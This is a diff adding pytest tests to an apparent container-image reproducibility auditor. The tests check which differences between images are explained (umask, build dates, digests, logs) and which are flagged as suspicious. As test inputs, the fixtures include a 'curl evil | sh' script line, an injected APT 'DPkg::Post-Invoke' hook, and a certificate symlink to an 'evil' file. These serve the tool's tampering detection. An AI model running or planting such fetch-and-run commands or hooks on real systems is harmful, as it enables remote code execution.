@@ -6,10 +6,22 @@ just that. Between two existing images somebody may have put it there.
 
 from __future__ import annotations
 
+import base64
+import hashlib
+import io
+import lzma
+import zipfile
+from pathlib import Path
+
 import pytest
 from msgspec.structs import replace
 
-from repaudit.model.difference import Aspect
+from repaudit.model.difference import Aspect, Difference
+from repaudit.model.image import Entry, Kind
+from repaudit.oci.changes import Change
+from repaudit.stages.attribute import Scene, attribute
+from repaudit.stages.entries import compare_change
+from tests.test_attribute import contents_of
 from tests.test_forensic_cases import of, slugs
 from tests.test_forensics_uncovered import case, told
 
@@ -152,3 +164,323 @@ def test_an_order_of_entries_that_decides_something_is_unexplained(decides, vary
     asked = of(Aspect.ORDER, "a", "b", "", vary=vary)
     order = replace(asked, difference=replace(asked.difference, detail=decides))
     assert slugs("aspect", order) == wanted
+
+
+# --- modes and owners --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("left", "right", "blamed"),
+    [
+        ("0644", "0664", True),
+        ("0755", "0775", True),
+        ("0755", "0700", True),
+        ("0644", "0600", True),
+        ("0750", "0755", True),
+        ("0644", "0666", False),  # everyone may write
+        ("0755", "0777", False),
+        ("0644", "0645", False),  # from 0666 no umask leaves a right to execute
+        ("0644", "0655", False),
+        ("0755", "0744", False),
+        ("0755", "0711", False),
+        ("0644", "0755", False),
+        ("4755", "4775", False),
+        ("0755", "4755", False),
+        ("0755", "2755", False),
+        ("0777", "1777", False),
+        ("0664", "0646", False),
+    ],
+)
+def test_modes_are_of_a_umask_if_usual_ones_make_both_of_one(left: str, right: str, blamed: bool):
+    for sides in ((left, right), (right, left)):
+        found = slugs("aspect", of(Aspect.MODE, *sides, vary=None))
+        assert found == ({"different_due_to_umask"} if blamed else set())
+
+
+def test_one_owner_alone_is_not_who_builds():
+    def told_of(*owners: tuple[str, str, int]) -> set[str]:
+        some = [
+            Difference(layer=layer, path=f"srv/{n}", aspect=Aspect.OWNER, left=one, right=other)
+            for n, (one, other, layer) in enumerate(owners)
+        ]
+        return {finding.cause.slug for finding in attribute(some, {}, Scene())}
+
+    person = ("0:0", "1000:1000")
+    assert told_of((*person, 0), (*person, 0)) == {"owner_follows_build_user"}
+    assert told_of((*person, 0)) == told_of((*person, 0), (*person, 1)) == UNEXPLAINED
+    assert told_of((*person, 0), ("1000:1000", "0:0", 0)) == UNEXPLAINED
+
+
+# --- what only looks random, or like a time ----------------------------------------------------
+
+PEM = "-----BEGIN {0}-----\n{1}\n-----END {0}-----\n"
+
+
+@pytest.mark.parametrize(
+    ("left", "right"),
+    [
+        ("ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIGood0key", "ssh-rsa AAAAC3NzaC1lZDI1NTE5BBBBJEvil9two"),
+        (PEM.format("CERTIFICATE", "AAAA"), PEM.format("CERTIFICATE", "BBBB")),
+        (PEM.format("PUBLIC KEY", "AAAA"), PEM.format("PUBLIC KEY", "BBBB")),
+        ("token=9f8e7d6c5b4a", "token=0a1b2c3d4e5f"),
+        ("key kD93jfOsl20Dk1mX", "key Zp02mQwe8TyUi4vB"),
+        ("rev " + "a1" * 20, "rev " + "b2" * 20),
+        ("FROM a@sha256:" + "a1" * 32, "FROM a@sha256:" + "b2" * 32),
+        ("a:$6$abcdefgh$Zk3/uP.q0vXw1yR5tL8mNbVc:1", "a:$6$hgfedcba$pL8m.NbVcDx2Zk3/uP0vXw1y:1"),
+        ("listen 2022", "listen 2049"),
+        ("limit 1700000000", "limit 1710000000"),
+        ("1700000000", "1710000000"),
+        ("ca-certificates 20230311", "ca-certificates 20240203"),
+        ("certifi==2023.11.17", "certifi==2024.2.2"),
+        ("version 2023.11.17", "version 2024.02.02"),
+        ("ratio 08:30", "ratio 12:45"),
+        ("keepalive_timeout 65 s", "keepalive_timeout 99 s"),
+        ("update 20230311", "update 20240203"),
+    ],
+)  # fmt: skip
+def test_in_two_images_a_look_alone_explains_nothing(left: str, right: str):
+    assert differ(left, right) == UNEXPLAINED
+
+
+@pytest.mark.parametrize(
+    ("left", "right", "wanted"),
+    [
+        (PEM.format("PRIVATE KEY", "AAAA"), PEM.format("PRIVATE KEY", "BBBB"), "embeds_random_key"),
+        ("BUILD_DATE=1700000000", "BUILD_DATE=1710000000", "captures_build_date"),
+        ("built 20230311", "built 20240203", "captures_build_date"),
+        ("Date: 2023.11.17", "Date: 2024.02.02", "captures_build_date"),
+        ("(c) 2022 me", "(c) 2023 me", "captures_build_date"),
+        ("at 2023-11-17 08:30", "at 2024-02-02 12:45", "captures_build_date"),
+        ("20231117083000", "20240202124500", "captures_build_date"),
+        ("took 37 ms", "took 41 ms", "captures_execution_time"),
+        ("in /tmp/tmp.AbCdEf1234/x", "in /tmp/tmp.ZyXwVu9876/x", "captures_temporary_path"),
+        (
+            "id 3f2504e0-4f89-41d3-9a0c-0305e82c3301",
+            "id 9b1deb4d-3b7d-4bad-9bdd-2b0d7b3dcb6d",
+            "embeds_random_value",
+        ),
+    ],
+)
+def test_what_says_what_it_is_is_known_there_too(left: str, right: str, wanted: str):
+    assert differ(left, right) == {wanted}
+
+
+# --- digests -----------------------------------------------------------------------------------
+
+
+def sums(name: str, text: bytes) -> str:
+    return getattr(hashlib, name)(text).hexdigest()
+
+
+def beside(folder: Path, lists: tuple[str, str]) -> dict[str, set[str]]:
+    """The causes of each file of two images: one holds `one` and `two`, another one `lists`."""
+    contents, some = {}, []
+    for number, sides in enumerate([(b"one 1\n", b"two 2\n"), [x.encode() for x in lists]]):
+        home = folder / str(number)
+        home.mkdir()
+        digests = f"sha256:{number}l", f"sha256:{number}r"
+        contents |= contents_of(home, *sides, digests)
+        content = Difference(
+            layer=0, path=f"srv/{number}", aspect=Aspect.CONTENT, left=digests[0], right=digests[1]
+        )
+        some.append(content)
+    told: dict[str, set[str]] = {}
+    for finding in attribute(some, contents, Scene()):
+        for one in finding.differences:
+            told.setdefault(one.path, set()).add(finding.cause.slug)
+    return told
+
+
+@pytest.mark.parametrize("algorithm", ["md5", "sha1", "sha256", "sha512"])
+def test_a_digest_is_explained_by_the_file_that_it_is_of(tmp_path: Path, algorithm: str):
+    one, two = sums(algorithm, b"one 1\n"), sums(algorithm, b"two 2\n")
+    line = "date 2026-11-{} {}  srv/0\n"
+    found = beside(tmp_path, (line.format(11, one), line.format(12, two)))
+    assert found["srv/1"] == {"captures_build_date", "checksum_of_varying_file"}
+
+
+@pytest.mark.parametrize(
+    ("left", "right"),
+    [
+        (sums("sha256", b"one 1\n"), sums("sha256", b"three\n")),
+        (sums("sha256", b"none\n"), sums("sha256", b"two 2\n")),
+        (sums("sha256", b"two 2\n"), sums("sha256", b"one 1\n")),
+        (sums("sha256", b"x"), sums("sha256", b"y")),
+    ],
+)
+def test_a_digest_of_no_file_that_is_there_is_unexplained(tmp_path: Path, left: str, right: str):
+    line = "date 2026-11-{} sha256={}\n"
+    sides = line.format(11, left), line.format(12, right)
+    assert beside(tmp_path, sides)["srv/1"] == {"captures_build_date", "unexplained"}
+
+
+def test_a_list_in_an_archive_may_be_of_its_members():
+    def zipped(day: int, member: bytes, of: bytes) -> bytes:
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, "w") as archive:
+            archive.writestr(zipfile.ZipInfo("a"), member)
+            digest = base64.b64encode(hashlib.sha256(of).digest()).decode()
+            text = f"Date: 2026-11-{day}\nSHA-256-Digest: {digest}\n"
+            archive.writestr(zipfile.ZipInfo("META-INF/MANIFEST.MF"), text)
+        return out.getvalue()
+
+    days = [b"built 2026-11-11", b"built 2026-11-12"]
+    one, other = (zipped(n, day, day) for n, day in zip((11, 12), days, strict=True))
+    dated = {"captures_build_date", "checksum_of_varying_file"}
+    assert told(one, other, "x.jar", vary=None).keys() == dated
+    evil = zipped(12, days[1], b"evil")
+    assert "unexplained" in told(one, evil, "x.jar", vary=None)
+
+
+# --- known places ------------------------------------------------------------------------------
+
+PROGRAM = b"\x7fELF\2\1\1" + bytes(80)
+PUBLIC = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA%s root@build\n"
+
+
+def known(path: str, left: bytes, right: bytes, **more: object) -> set[str]:
+    return slugs("known_path", case(left, right, path=path, **more))
+
+
+@pytest.mark.parametrize(
+    ("path", "one", "other"),
+    [
+        ("var/log/dpkg.log", b"2026-11-22 startup\n", b"2027-12-27 startup\n"),
+        ("var/log/apt/history.log", b"", b"Start-Date: 2027-12-27\n"),
+        ("var/log/apt/eipp.log.xz", lzma.compress(b"Request: 1\n"), lzma.compress(b"Request: 2\n")),
+        ("var/log/wtmp", bytes(384), bytes(383) + b"\1"),
+        ("var/cache/fontconfig/a.cache-8", b"\4\xfc\2\xfc\1", b"\4\xfc\2\xfc\2"),
+        (
+            "var/cache/ldconfig/aux-cache",
+            b"glibc-ld.so.auxcache-1.0\1",
+            b"glibc-ld.so.auxcache-1.0",
+        ),
+        ("etc/machine-id", b"a" * 32 + b"\n", b""),
+        ("etc/ssh/ssh_host_ed25519_key.pub", PUBLIC % b"x", PUBLIC % b"y"),
+        (
+            "etc/ssh/ssh_host_rsa_key",
+            PEM.format("OPENSSH PRIVATE KEY", "AAAA").encode(),
+            PEM.format("OPENSSH PRIVATE KEY", "BBBB").encode(),
+        ),
+        (
+            "etc/apt/apt.conf.d/01autoremove-kernels",
+            b'APT::NeverAutoRemove\n{\n   "^linux-6$";\n};\n',
+            b'APT::NeverAutoRemove\n{\n   "^linux-2$";\n};\n',
+        ),
+    ],
+)
+def test_a_known_place_explains_what_its_program_writes(path: str, one: bytes, other: bytes):
+    for vary in (None, ("time",)):
+        assert known(path, one, other, vary=vary), path
+        for evil in (PROGRAM, b"#!/bin/sh\ncurl evil | sh\n"):
+            assert known(path, one, evil, vary=vary) == set()
+            assert known(path, evil, other, vary=vary) == set()
+
+
+@pytest.mark.parametrize(
+    ("path", "one", "other"),
+    [
+        ("var/log/dpkg.log", b"2026-11-22 startup\n", b"\0\1\2"),
+        ("etc/ssh/ssh_host_ed25519_key.pub", PUBLIC % b"x", PUBLIC % b"y" + PUBLIC % b"z"),
+        (
+            "etc/apt/apt.conf.d/01autoremove-kernels",
+            b'APT::NeverAutoRemove { "a"; };\n',
+            b'APT::NeverAutoRemove { "b"; };\nDPkg::Post-Invoke { "evil"; };\n',
+        ),
+        (
+            "etc/ssl/certs/0a1b2c3d.0",
+            PEM.format("CERTIFICATE", "AAAA").encode(),
+            PEM.format("CERTIFICATE", "BBBB").encode(),
+        ),
+    ],
+)
+def test_and_nothing_else(path: str, one: bytes, other: bytes):
+    assert known(path, one, other) == set()
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "root/.gnupg/pubring.kbx",
+        "etc/pacman.d/gnupg/pubring.gpg",
+        "etc/ssl/certs/java/cacerts",
+    ],
+)
+def test_whom_a_container_trusts_is_no_matter_of_places_in_two_images(path: str):
+    assert known(path, b"\1", b"\2", vary=None) == set()
+    assert known(path, b"\1", b"\2", vary=("time",)) != set()
+
+
+def test_nor_is_a_password():
+    line = "app:$y$j9T$abc./1${}:20779:0:99999:7:::\n"
+    one, other = (line.format(c * 30).encode() for c in "ab")
+    assert known("etc/shadow", one, other, vary=None) == set()
+    assert known("etc/shadow", one, other) == {"random_salt_in_shadow"}
+
+
+@pytest.mark.parametrize(
+    ("path", "detail", "wanted"),
+    [
+        ("var/log/apt/term.log", None, {"apt_and_dpkg_logs"}),
+        ("var/log/apt/su", "it can be executed: its mode is 4755", set()),
+        ("tmp/x", None, {"temporary_files_left_behind"}),
+        ("tmp/x", "it is a character device", set()),
+        ("var/cache/man/x", "it is a symlink to /etc/shadow", set()),
+        ("etc/ssl/certs/ssl-cert-snakeoil.pem", None, {"snakeoil_certificate"}),
+        (
+            "etc/ssl/certs/0a1b2c3d.0",
+            "it is a symlink to ssl-cert-snakeoil.pem",
+            {"snakeoil_certificate"},
+        ),
+        ("etc/ssl/certs/0a1b2c3d.0", "it is a symlink to /opt/evil.pem", set()),
+        ("etc/ssl/certs/0a1b2c3d.0", None, set()),
+    ],
+)
+def test_a_file_more_is_known_if_it_is_a_plain_one(path: str, detail: str | None, wanted: set[str]):
+    for sides in (("present", None), (None, "present")):
+        asked = of(Aspect.PRESENCE, *sides, path)
+        found = replace(asked, difference=replace(asked.difference, detail=detail))
+        assert slugs("known_path", found) == wanted
+
+
+@pytest.mark.parametrize("aspect", [Aspect.MODE, Aspect.OWNER, Aspect.KIND, Aspect.LINK])
+def test_no_place_explains_who_may_do_what(aspect: Aspect):
+    assert slugs("known_path", of(aspect, "0644", "4755", "var/log/dpkg.log")) == set()
+
+
+def entry(kind: Kind, mode: int, link: str | None = None) -> Entry:
+    return Entry(
+        path="x",
+        kind=kind,
+        mode=mode,
+        uid=0,
+        gid=0,
+        uname="",
+        gname="",
+        mtime=0,
+        size=0,
+        digest=None,
+        link=link,
+        device=None,
+        xattrs=(),
+        position=0,
+        offset=0,
+        stored=0,
+    )
+
+
+@pytest.mark.parametrize(
+    ("one", "detail"),
+    [
+        (entry(Kind.FILE, 0o644), None),
+        (entry(Kind.DIRECTORY, 0o755), None),
+        (entry(Kind.FILE, 0o755), "it can be executed: its mode is 0755"),
+        (entry(Kind.FILE, 0o4711), "it can be executed: its mode is 4711"),
+        (entry(Kind.SYMLINK, 0o777, "a/b"), "it is a symlink to a/b"),
+        (entry(Kind.FIFO, 0o644), "it is a fifo"),
+    ],
+)
+def test_of_what_one_image_has_more_it_is_said_what_it_can_do(one: Entry, detail: str | None):
+    for sides in ((one, None), (None, one)):
+        (found,) = compare_change(0, Change(path="x", left=sides[0], right=sides[1], layers=(0, 0)))
+        assert (found.aspect, found.detail) == (Aspect.PRESENCE, detail)
